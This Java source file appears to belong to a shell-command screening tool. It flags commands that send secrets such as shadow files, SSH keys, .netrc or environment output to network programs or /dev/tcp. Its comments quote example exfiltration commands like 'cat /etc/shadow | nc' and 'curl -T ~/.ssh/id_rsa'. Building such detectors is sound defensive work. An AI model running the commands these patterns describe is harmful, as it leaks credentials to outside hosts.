package dev.wingman.screening.indirect;

import java.util.HashMap;
import java.util.Map;
import java.util.Optional;
import java.util.Set;

import dev.wingman.screening.actions.Action;
import dev.wingman.screening.actions.Lexicon;
import dev.wingman.screening.actions.Offence;
import dev.wingman.screening.shell.Gap;
import dev.wingman.screening.shell.Reader;
import dev.wingman.screening.shell.Word;
import dev.wingman.screening.shell.Word.Kind;
import dev.wingman.screening.shell.Words;
import dev.wingman.screening.spelling.Variables;

/// A secret that a command sends away: `cat /etc/shadow | nc …`, `curl -T ~/.ssh/id_rsa …`. A key that a program only uses, such as that of
/// `ssh -i`, goes nowhere.
public final class Exposures {
    private static final Lexicon TABLE = Lexicon.beside(Exposures.class, "exposures.tsv");
    private static final Map<String, Sender> SENDERS = senders();
    private static final Map<String, Set<String>> PRINTERS = printers();
    private static final Set<String> USING = TABLE.list("using");
    private static final Set<String> ENVIRONMENT = TABLE.list("environment");
    private static final Set<String> CONNECTIONS = TABLE.list("connections");
    private static final int REACH = 32;
    private static final int PIPED = 16;
    private static final int WRAPPED = 8;
    private static final int VERBS = 5;
    private static final int LONGEST = 2048;

    private Exposures() {}

    private enum How {
        PIPED, FILES, COPIES
    }

    /// @param how what it sends
    /// @param verbs the words by which it is asked to; none when its name says it
    /// @param using the options whose value it does not send
    private record Sender(How how, Set<String> verbs, Set<String> using) {}

    /// All programs that send something.
    public static Set<String> names() {
        return SENDERS.keySet();
    }

    /// Judges a word that may name one of them.
    ///
    /// @param begins whether it may begin a command
    public static Optional<Offence> judge(Words words, int index, boolean begins) {
        var sender = SENDERS.get(words.get(index).program());
        var end = Math.min(words.commandEnd(index), index + REACH);
        if (sender == null || !begins && !(index + 1 < end && words.get(index + 1).isFlag())
                || !isAsked(words, index, end, sender.verbs())) {
            return Optional.empty();
        }
        return piped(words, begins ? first(words, index) : index).or(() -> given(words, index, end, sender, begins))
                .map(secret -> exposure(words.get(index), secret));
    }

    /// Judges a file that a command writes to: `printenv > /dev/tcp/host/99`.
    public static Optional<Offence> redirected(Words words, int index) {
        var file = words.get(index);
        if (file.redirect() != '>' || CONNECTIONS.stream().noneMatch(file.text()::startsWith)) {
            return Optional.empty();
        }
        return piped(words, index + 1).map(secret -> exposure(file, secret));
    }

    private static boolean isAsked(Words words, int sender, int end, Set<String> verbs) {
        for (var i = sender + 1; i < Math.min(end, sender + VERBS); i++) {
            if (verbs.contains(words.get(i).lower())) {
                return true;
            }
        }
        return verbs.isEmpty();
    }

    /// Where the command begins: `sudo` may stand before its program.
    private static int first(Words words, int index) {
        var first = index;
        while (first > 0 && first > index - WRAPPED && !words.get(first).begins()) {
            first--;
        }
        return first;
    }

    /// The secret that comes out of the pipeline before a word.
    private static Optional<Word> piped(Words words, int end) {
        var last = end;
        for (var i = end - 1; i >= 0 && i > end - PIPED && joins(words, i + 1, end); i--) {
            if (words.get(i).begins()) {
                var nearest = last == end;
                var begin = i;
                var found = printed(words, i, last)
                        .or(() -> nearest ? substituted(words, begin, end) : Optional.empty());
                if (found.isPresent()) {
                    return found;
                }
                last = i;
            }
        }
        return Optional.empty();
    }

    /// Whether the pipeline goes on at a word; the first one, where the look begins, is a pipe's or behind a redirection.
    private static boolean joins(Words words, int index, int end) {
        return index < words.size() && words.get(index).before() == Gap.PIPE
                || index < end && words.get(index).before() == Gap.SPACE
                || index == end && words.get(end - 1).redirect() == '>';
    }

    /// The secret that a command prints.
    private static Optional<Word> printed(Words words, int first, int end) {
        var program = words.get(first).program();
        if (ENVIRONMENT.contains(program) && hasOnlyFlags(words, first, end)) {
            return Optional.of(words.get(first));
        }
        var asking = PRINTERS.getOrDefault(program, Set.of());
        var sender = SENDERS.get(program);
        var using = sender == null ? USING : sender.using();
        for (var i = first + 1; i < end; i++) {
            if (asking.contains(words.get(i).lower()) || isSent(words, i, using)) {
                return Optional.of(words.get(i));
            }
        }
        return Optional.empty();
    }

    /// `echo "$(cat ~/.netrc)"`, only of the command next to the one that sends: so each is read once.
    private static Optional<Word> substituted(Words words, int first, int end) {
        for (var i = first + 1; i < end; i++) {
            if (substitutes(words.get(i))) {
                return Optional.of(words.get(i));
            }
        }
        return Optional.empty();
    }

    private static boolean hasOnlyFlags(Words words, int first, int end) {
        for (var i = first + 1; i < end; i++) {
            if (!words.get(i).isFlag() && words.get(i).redirect() == ' ') {
                return false;
            }
        }
        return true;
    }

    private static Optional<Word> given(Words words, int index, int end, Sender sender, boolean begins) {
        var last = sender.how() == How.COPIES ? end - 1 : end;
        if (sender.how() == How.COPIES && !isElsewhere(words.get(last))) {
            return Optional.empty();
        }
        for (var i = index + 1; i < last; i++) {
            var word = words.get(i);
            var file = (sender.how() != How.PIPED || word.redirect() == '<') && isSent(words, i, sender.using());
            if (file && !(sender.how() == How.COPIES && isElsewhere(word)) || begins && substitutes(word)) {
                return Optional.of(word);
            }
        }
        return Optional.empty();
    }

    private static boolean isElsewhere(Word word) {
        return word.text().indexOf(':') > 1 || word.punctuation() == ':';
    }

    private static boolean isSent(Words words, int index, Set<String> using) {
        var text = words.get(index).text();
        var equals = text.indexOf('=');
        var option = equals > 0 ? text.substring(0, equals) : words.get(index - 1).text();
        return !words.get(index).isPlain() && words.get(index).redirect() != '>' && !using.contains(option)
                && SecretFiles.isOne(words.get(index).lower());
    }

    /// `-d "$(cat ~/.netrc)"`.
    private static boolean substitutes(Word word) {
        for (var inner : word.inside()) {
            if (inner.kind() == Kind.SUBSTITUTION && inner.source().text().length() < LONGEST) {
                var words = Reader.read(inner.source(), false, new Variables(0));
                if (prints(words)) {
                    return true;
                }
            }
        }
        return false;
    }

    private static boolean prints(Words words) {
        for (var i = 0; i < words.size(); i++) {
            var read = words.get(i).redirect() == '<' && SecretFiles.isOne(words.get(i).lower());
            if (read || words.get(i).begins() && printed(words, i, words.commandEnd(i)).isPresent()) {
                return true;
            }
        }
        return false;
    }

    private static Offence exposure(Word one, Word other) {
        return new Offence(Action.SECRET_EXPOSURE, Math.min(one.start(), other.start()),
                Math.max(one.end(), other.end()));
    }

    private static Map<String, Sender> senders() {
        var senders = new HashMap<String, Sender>();
        for (var how : How.values()) {
            TABLE.rows().stream().filter(row -> row.getFirst().equalsIgnoreCase(how.name()))
                    .forEach(row -> TABLE.words(row.get(1)).forEach(program -> senders.put(program,
                            new Sender(how, TABLE.words(row.get(2)), TABLE.words(row.get(3))))));
        }
        return Map.copyOf(senders);
    }

    private static Map<String, Set<String>> printers() {
        var printers = new HashMap<String, Set<String>>();
        TABLE.rows().stream().filter(row -> row.getFirst().equals("prints")).forEach(
                row -> TABLE.words(row.get(1)).forEach(program -> printers.put(program, TABLE.words(row.get(2)))));
        return Map.copyOf(printers);
    }
}
